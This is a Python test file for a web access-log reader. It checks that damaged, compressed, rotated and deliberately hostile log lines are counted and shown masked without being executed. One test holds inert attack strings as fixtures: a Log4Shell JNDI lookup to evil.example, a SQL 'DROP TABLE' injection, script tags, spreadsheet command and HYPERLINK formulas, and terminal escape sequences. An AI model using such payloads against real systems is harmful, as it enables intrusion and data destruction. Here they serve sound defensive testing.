"""Damaged and hostile logs: counted, shown masked, never executed, never fatal."""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import random as random_module
from io import BytesIO

import pytest
import zstandard
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from blank_cases import blank_case
from necropsy.evidence.access_log.files.sources import attach
from necropsy.evidence.access_log.lines import create_tables, finish
from necropsy.evidence.access_log.loading import load
from necropsy.evidence.access_log.reader import read
from necropsy.wire.files import compression

GOOD = (
    '{"time":"2024-05-01T10:00:%02d+00:00","request":"GET /page HTTP/1.1","status":200,"http_user_agent":"curl/8.5.0"}'
)
COMBINED = '203.0.113.9 - - [24/May/2019:18:41:%02d +0000] "GET /page HTTP/1.1" 200 17 "-" "curl/8.5.0"'


def good(*seconds, form=GOOD):
    return "".join(form % second + "\n" for second in seconds)


@pytest.mark.parametrize("form", [GOOD, COMBINED], ids=["json", "combined"])
def test_a_damaged_line_is_counted_by_its_number_and_the_others_are_read(reading, form) -> None:
    log = reading(good(1, 2, form=form) + "rubbish here\n" + good(3, form=form) + "more rubbish\n").log
    assert log.requests == 3
    (blemish,) = log.blemishes
    assert (blemish.unit, blemish.place, blemish.count, blemish.sample) == ("line", 3, 2, "rubbish here")


@pytest.mark.parametrize("form", [GOOD, COMBINED], ids=["json", "combined"])
def test_blank_lines_are_no_damage_and_are_counted_in_the_numbers(reading, form) -> None:
    log = reading("\n\n" + good(1, form=form) + "   \n\r\n" + "rubbish\n" + good(2, form=form)).log
    assert (log.requests, [(b.place, b.count) for b in log.blemishes]) == (2, [(6, 1)])


def test_a_line_cut_by_rotation_is_damage(reading) -> None:
    log = reading(good(1) + (GOOD % 2)[:60]).log
    assert (log.requests, [b.place for b in log.blemishes]) == (1, [2])


def test_a_time_that_is_none_and_a_line_without_request_have_their_own_reasons(reading) -> None:
    lines = (
        good(1, 2)
        + '{"time":"soon","request":"GET / HTTP/1.1","status":200}\n'
        + '{"time":"2024-05-01T10:00:00Z","msg":"hello"}\n'
    )
    log = reading(lines).log
    assert [(b.why, b.place) for b in log.blemishes] == [("has no readable time", 3), ("has no request", 4)]


def test_bytes_that_are_no_utf8_cost_the_character_and_not_the_line(reading) -> None:
    line = (GOOD % 2).replace("curl", "curl\udcff").encode("utf-8", "surrogateescape")
    read = reading(good(1).encode() + line + b"\n" + good(3).encode())
    assert (read.log.requests, read.log.blemishes) == (3, [])
    assert sorted(row[0] for row in read.classes("user_agent")) == ["curl/8.5.0", "curl\ufffd/8.5.0"]


def test_json_of_an_nginx_without_json_escaping_is_repaired(reading) -> None:
    line = (GOOD % 2).replace("curl/8.5.0", r"\x22><script>\x5C").replace('"status":200', '"status":')
    read = reading(good(1) + line + "\n")
    assert (read.log.requests, read.log.blemishes) == (2, [])
    assert ('"><script>\\', None) in read.classes("user_agent, status")


def test_what_a_shipper_wrote_before_each_object_is_taken_off(reading) -> None:
    lines = "".join(f"May  1 10:00:0{i} web1 nginx: {GOOD % i},\n" for i in range(3))
    assert reading(good(1) + lines).log.requests == 4


def test_a_format_that_changes_in_the_middle_is_read_to_the_end(reading) -> None:
    read = reading(good(1, 2) + good(3, 4, form=COMBINED) + "rubbish\n" + good(5))
    assert read.log.requests == 5
    assert read.log.sources[0].note.endswith("; then combined")
    assert [(b.place, b.count, b.sample) for b in read.log.blemishes] == [(5, 1, "rubbish")]


@pytest.mark.parametrize(
    ("name", "pack"),
    [
        ("gzip", gzip.compress),
        ("zstd", zstandard.ZstdCompressor().compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
        ("members", lambda data: gzip.compress(data[:100]) + gzip.compress(data[100:])),
    ],
)
def test_compressed_logs_are_told_by_content(reading, name, pack) -> None:
    log = reading({"access.log": pack(good(1, 2, 3).encode())}).log
    assert (log.requests, log.blemishes) == (3, [])


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress], ids=["gzip", "bz2", "xz"])
def test_what_can_be_unpacked_of_a_cut_file_is_read_and_the_rest_is_said_to_be_missing(reading, pack) -> None:
    random = random_module.Random(1)
    chance = "".join(
        good(i % 60).replace("/page", f"/page?{random.randbytes(24).hex()}") for i in range(6_000)
    ).encode()
    log = reading({"access.log": pack(chance)[:-1500]}).log
    assert 0 < log.requests < 6_000
    cut = [b for b in log.blemishes if b.unit == "byte"]
    assert len(cut) == 1
    assert "truncated or damaged" in cut[0].why


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "it is empty"),
        (b"\n\n", "it is empty"),
        (b"\x1f\x8bnot gzip at all", "truncated or damaged"),
        (b"hello\n", "no known log format"),
    ],
    ids=["empty", "blank", "no gzip", "prose"],
)
def test_a_file_of_which_nothing_can_be_made_says_why_and_what_to_do(reading, content, reason) -> None:
    (absent,) = reading({"access.log": content}).log.absent
    assert reason in absent.reason
    assert absent.hint


def test_standard_input_is_read(monkeypatch, reading) -> None:
    class Stdin:
        buffer = BytesIO(gzip.compress(good(1, 2).encode()))

    Stdin.buffer.peek = lambda n: Stdin.buffer.getvalue()[:n]  # type: ignore[attr-defined]
    monkeypatch.setattr("sys.stdin", Stdin)
    with blank_case() as case:
        log = read(case, ["-"])
    assert (log.requests, log.sources[0].sha256) == (2, None)


def test_rotated_files_are_one_log(reading) -> None:
    read = reading(
        {
            "access.log": good(9),
            "access.log.1": good(5),
            "access.log.2.gz": gzip.compress(good(1).encode()),
            "access.log-20240401.zst": zstandard.ZstdCompressor().compress(good(0).encode()),
        }
    )
    assert read.log.requests == 4
    assert len(read.log.sources) == 4
    assert read.one("visits") == (4,)


def test_a_hostile_log_is_read_and_shown_harmlessly(reading) -> None:
    hostile = [
        b"\x1b[2J\x1b[31mred alert\x07 \x00\x00 SESSION=YjQ2M2I1ZjktYTA3ZC00ZWZl",
        b'<script>alert(1)</script> =cmd|"/C calc"!A0 @SUM(1+1)',
        bytes(range(256)).replace(b"\n", b""),
        b"\xff\xfe" * 500,
        b"a" * 10_000_000,
        b"[" * 100_000,
        b'{"time":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"time":"2024-05-01T10:00:00Z","request":"GET /"' + b",",
        b"%s%n%x ${jndi:ldap://evil.example/a} '; DROP TABLE visitor_class; --",
        b"\r",
        b"c\rd",
    ]
    seen = json.dumps(
        {
            "time": "2024-05-01T10:00:05+00:00",
            "request": "GET /<script>alert(1)</script>/\x1b[31m HTTP/1.1",
            "status": 404,
            "http_user_agent": '=HYPERLINK("http://evil.example")\x1b]0;owned\x07\u202eevil',
        }
    ).encode()
    read = reading(good(1).encode() + b"\n".join(hostile) + b"\n" + seen + b"\n" + good(2).encode())
    assert read.log.requests == 3
    assert sum(b.count for b in read.log.blemishes) == len(hostile) - 1  # the lone \r is a blank line
    shown = "".join(b.sample for b in read.log.blemishes)
    assert "YjQ2M2I1Zjk" not in shown
    values = [str(value) for row in read.classes("user_agent, path, method, host, client, log") for value in row]
    assert all(character.isprintable() for value in [shown, *values] for character in value.replace("\ufffd", ""))
    assert ('=HYPERLINK("http://evil.example")\ufffd]0;owned\ufffd\ufffdevil',) in read.classes("user_agent")


def test_a_combined_log_with_quotes_and_binary_loses_only_those_lines(reading) -> None:
    bad = [
        '203.0.113.9 - - [24/May/2019:18:41:34 +0000] "GET /a"b" HTTP/1.1" 200 17 "-" "x"',
        '"""""""',
        '203.0.113.9 - - [99/Foo/2019:18:41:34 +0000] "GET /page HTTP/1.1" 200 17 "-" "x"',
    ]
    log = reading(good(1, form=COMBINED) + "\n".join(bad) + "\n" + good(2, 3, form=COMBINED)).log
    assert log.requests == 3
    assert [(b.why, b.place, b.count) for b in log.blemishes] == [
        ("does not fit the log format", 2, 2),
        ("has no readable time", 4, 1),
    ]


def test_a_request_that_is_no_http_is_still_a_request(reading) -> None:
    line = '203.0.113.9 - - [24/May/2019:18:41:34 +0000] "\\x16\\x03\\x01\\x02" 400 157 "-" "-"\n'
    assert reading(line).one("method, path, status, user_agent") == ("-", "-", 400, "")


@pytest.mark.process
@settings(max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(
    lines=st.lists(
        st.binary(max_size=60).filter(lambda line: b"\n" not in line and not compression(line)), max_size=12
    ),
    at=st.integers(0, 12),
)
@example(lines=[b"\x1c"], at=0)
def test_no_bytes_break_the_reader_or_change_what_is_counted(tmp_path_factory, lines, at) -> None:
    path = tmp_path_factory.mktemp("log") / "access.log"
    mixed = [*lines[:at], (GOOD % 1).encode(), *lines[at:]]
    path.write_bytes(b"".join(line + b"\n" for line in mixed))
    with blank_case() as case:
        log = read(case, [str(path)])
    assert log.requests == 1
    assert sum(b.count for b in log.blemishes) == sum(1 for line in lines if line.strip())


def test_no_two_lines_share_a_number_whatever_is_blank_or_repaired(tmp_path, scratch) -> None:
    nested = '{"ts":1558723292.%d,"request":{"method":"GET","uri":"/%d","host":"a"},"status":200}\n'
    path = tmp_path / "caddy.log"
    path.write_text("".join(f"\n{nested % (i, i)}shipper: {nested % (i, i)}" for i in range(9)))
    create_tables(scratch)
    loaded = load(scratch, attach(str(path), scratch.folder, 0), [])
    finish(scratch)
    assert loaded.requests == 18
    assert scratch.rows("SELECT count(DISTINCT number) FROM line") == [(18,)]
